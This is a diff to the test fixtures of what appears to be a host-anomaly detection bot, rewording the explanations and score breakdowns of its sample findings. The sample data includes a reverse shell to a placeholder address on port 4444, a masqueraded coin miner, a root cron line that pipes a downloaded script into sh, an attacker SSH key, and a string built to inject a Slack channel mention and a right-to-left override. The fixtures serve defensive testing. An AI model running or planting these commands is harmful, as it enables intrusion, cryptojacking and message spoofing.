@@ -11,6 +11,7 @@ from bot.model import (
     Change,
     Coverage,
     Finding,
+    Held,
     Host,
     HostStatus,
     HostVerdict,
@@ -65,11 +66,12 @@ SLOW = _host(21)
 QUIET = tuple(host for host in HOSTS if host not in (MINER, SHELL, OFFLINE, SLOW))
 
 
-def _counts(change: Change, seen_on: int, baseline_seen: int | None) -> str:
+def _counts(change: Change, baseline_seen: int | None) -> str:
     """Return the counts as the analysis ends its reasons."""
     if change is Change.REMOVED:
-        return "none of 22 peers lacks it; the baseline has it"
-    return f"on {seen_on or 'none'} of 22 peers" + ("" if baseline_seen is None else "; not in the baseline")
+        return "the other 22 hosts all have it; the baseline has it"
+    it = "this" if change is Change.CHANGED else "it"
+    return f"none of the other 22 hosts has {it}" + ("" if baseline_seen is None else "; not in the baseline")
 
 
 def _finding(
@@ -84,6 +86,7 @@ def _finding(
     parts: tuple[tuple[str, float], ...] = (),
     seen_on: int = 0,
     baseline_seen: int | None = 0,
+    others: tuple[Held, ...] = (),
 ) -> Finding:
     return Finding(
         hosts=(host.id,),
@@ -97,12 +100,17 @@ def _finding(
         baseline_seen=baseline_seen,
         baseline_of=None if baseline_seen is None else 3,
         attack=attack,
-        why=f"{why}; {_counts(change, seen_on, baseline_seen)}",
+        why=f"{why}; {_counts(change, baseline_seen)}",
         quadrant=Quadrant.NEW_RARE,
         outlying=score >= 9,
         parts=tuple(ScorePart(label, bits) for label, bits in parts),
+        others=others,
     )
 
+
+ON_ONE = "on only 1 of 23 hosts"
+IN_NONE = "new: in none of 3 baseline snapshots (half of 2.8)"
+NOTHING = (Held(None, 22, 3),)
 
 FINDINGS = (
     _finding(
@@ -118,15 +126,17 @@ FINDINGS = (
             "remote_address": "198.51.100.23",
             "remote_port": "4444",
         },
-        "has a shell connected to 198.51.100.23:4444 (bash -i as www-data): a shell with a network connection",
+        "has /usr/bin/bash connected to 198.51.100.23 port 4444 as www-data, command line “bash -i”: it is a shell that talks to another host",
         15.6,
         "T1059.004",
         "T1071",
         parts=(
-            ("rare among 22 peers", 5.5),
-            ("not in the baseline", 2.1),
-            ("a shell with a network socket", 8.0),
+            (ON_ONE, 5.5),
+            (IN_NONE, 1.4),
+            ("a new connection", 4.7),
+            ("is a shell or interpreter that talks to another host", 4.0),
         ),
+        others=NOTHING,
     ),
     _finding(
         MINER,
@@ -140,15 +150,19 @@ FINDINGS = (
             "parent_name": "systemd",
             "instances": "1",
         },
-        "runs /dev/shm/.k/kworker as root: named like a kernel thread and from a folder that everybody may write to",
+        "runs “/dev/shm/.k/kworker -o stratum+tcp://pool.evil.example:3333 -u 44Adq…” as root: it is dressed as a kernel thread and runs from a folder that everybody may write to",
         14.2,
         "T1036.005",
         "T1496",
         parts=(
-            ("rare among 22 peers", 5.5),
-            ("not in the baseline", 2.2),
-            ("runs from a world-writable folder", 6.5),
+            (ON_ONE, 5.5),
+            (IN_NONE, 1.4),
+            ("a new process", 0.3),
+            ("is dressed as a kernel thread", 4.0),
+            ("mines coins", 2.0),
+            ("runs from a folder that everybody may write to", 1.0),
         ),
+        others=NOTHING,
     ),
     _finding(
         MINER,
@@ -163,11 +177,17 @@ FINDINGS = (
             "day_of_week": "*",
             "event": "",
         },
-        "has the cron job curl -fsSL http://198.51.100.99/i.sh | sh >/dev/null 2>&1: downloads and runs",
+        "has the scheduled job “curl -fsSL http://198.51.100.99/i.sh | sh >/dev/null 2>&1” in /var/spool/cron/crontabs/root: it downloads a script straight into a shell and fetches from an address without a name",
         13.1,
         "T1053.003",
         "T1105",
-        parts=(("rare among 22 peers", 5.5), ("not in the baseline", 2.1), ("downloads and runs", 5.5)),
+        parts=(
+            (ON_ONE, 5.5),
+            (IN_NONE, 1.4),
+            ("a new scheduled job", 2.5),
+            ("downloads a script straight into a shell", 3.7),
+        ),
+        others=NOTHING,
     ),
     _finding(
         SHELL,
@@ -180,22 +200,29 @@ FINDINGS = (
             "comment": "kali@kali",
             "key_sha256": "5d41c0d3b8a1f7c9e2b64a9917c2e5f0a3b1d8e7f6c5a4b3928170f6e5d4c3b2",
         },
-        "accepts one more SSH key for root (kali@kali): a way in for root",
+        "has the login key “kali@kali” for root in /root/.ssh/authorized_keys: it opens the root account",
         12.4,
         "T1098.004",
-        parts=(("rare among 22 peers", 5.5), ("not in the baseline", 2.4), ("opens a way in for root", 4.5)),
+        parts=((ON_ONE, 5.5), (IN_NONE, 1.4), ("a new login key", 4.5), ("opens the root account", 1.0)),
+        others=NOTHING,
     ),
     _finding(
         MINER,
         "kernel_controls",
         {"name": "kernel.tainted", "current_value": "12289"},
-        "has another kernel.tainted (current_value 12289 instead of 0): an unsigned module was loaded",
+        "has the kernel setting kernel.tainted = 12289 instead of 0: the kernel runs code that nobody signed",
         10.4,
         "T1562.001",
         "T1014",
         change=Change.CHANGED,
         expected={"name": "kernel.tainted", "current_value": "0"},
-        parts=(("rare among 22 peers", 5.4), ("not in the baseline", 2.0), ("a hardening setting", 3.0)),
+        parts=(
+            (ON_ONE, 5.5),
+            (IN_NONE, 1.4),
+            ("a changed kernel setting", 0.5),
+            ("the kernel runs code that nobody signed", 3.0),
+        ),
+        others=(Held({"current_value": "0"}, 21, 3), Held({"current_value": "4096"}, 1, 0)),
     ),
     _finding(
         SHELL,
@@ -209,10 +236,11 @@ FINDINGS = (
             "parent_name": "bash",
             "instances": "1",
         },
-        f"runs {HOSTILE} as www-data: its file was deleted",
+        f"runs /tmp/<!channel> as www-data, command line “{HOSTILE} -- ```\u202egpj.x```”: its program file was deleted",
         9.8,
         "T1070.004",
-        parts=(("rare among 22 peers", 5.5), ("runs from a deleted file", 4.3)),
+        parts=((ON_ONE, 5.5), (IN_NONE, 1.4), ("its program file was deleted", 2.9)),
+        others=NOTHING,
     ),
     _finding(
         MINER,
@@ -224,21 +252,30 @@ FINDINGS = (
             "fragment_path": "/usr/lib/systemd/system/auditd.service",
             "user": "",
         },
-        "lacks systemd unit auditd.service: an audit service",
+        "does not have the service auditd.service: a service that guards the host is missing",
         9.1,
         "T1562.001",
         change=Change.REMOVED,
         expected=None,
-        parts=(("all peers have it", 5.5), ("in the baseline", 1.6), ("an audit service", 2.0)),
+        parts=(
+            ("missing on only 1 of 23 hosts", 5.5),
+            ("new: missing in none of 3 baseline snapshots (half of 2.8)", 1.4),
+            ("a missing service", -0.5),
+            ("a service that guards the host is missing", 3.5),
+            ("a package of that name changed on the same host", -3.0),
+            ("honest causes take off no more than this", 2.2),
+        ),
+        others=(Held({}, 22, 3),),
     ),
     _finding(
         QUIET[3],
         "logins",
         {"username": "ops", "host": "10.0.9.14", "times": "2", "last_time": "1795410000"},
-        "has a login of ops from 10.0.9.14",
+        "has “ops, 10.0.9.14” in logins",
         4.2,
         "T1078",
-        parts=(("rare among 22 peers", 4.2),),
+        parts=((ON_ONE, 4.2),),
+        others=(Held(None, 22, 0),),
         baseline_seen=None,
     ),
     _finding(
@@ -247,7 +284,13 @@ FINDINGS = (
         {"name": "tcpdump", "version": "4.99.1-3ubuntu0.2", "arch": "amd64"},
         "has the package tcpdump 4.99.1-3ubuntu0.2",
         3.6,
-        parts=(("rare among 22 peers", 5.5), ("a package from the usual sources", -1.9)),
+        parts=(
+            (ON_ONE, 5.5),
+            (IN_NONE, 1.4),
+            ("a new package", -0.5),
+            ("packages changed on the same host", -2.8),
+        ),
+        others=NOTHING,
     ),
 )
 
@@ -315,6 +358,7 @@ REPORT = Report(
         partial=1,
         missed=(Missed(OFFLINE.id, MissReason.OFFLINE, "last seen 2026-11-22 22:50 UTC"),),
         unknown=(UnknownQuery(SLOW.id, "suid_bin", QueryStatus.TIMED_OUT, ""),),
+        queries=39,
     ),
     hosts=_ranked(),
     findings=FINDINGS,
@@ -333,7 +377,7 @@ REPORT = Report(
 CLEAN = dataclasses.replace(
     REPORT,
     run=dataclasses.replace(REPORT.run, id="r-0c1ea2", target="api-asg", incident=""),
-    coverage=Coverage(targeted=6, answered=6, partial=0),
+    coverage=Coverage(targeted=6, answered=6, partial=0, queries=39),
     hosts=tuple(
         dataclasses.replace(host, outlier=False, reason="", score=0.0, status=HostStatus.ANSWERED, rank=rank)
         for rank, host in enumerate(REPORT.hosts[:6], 1)
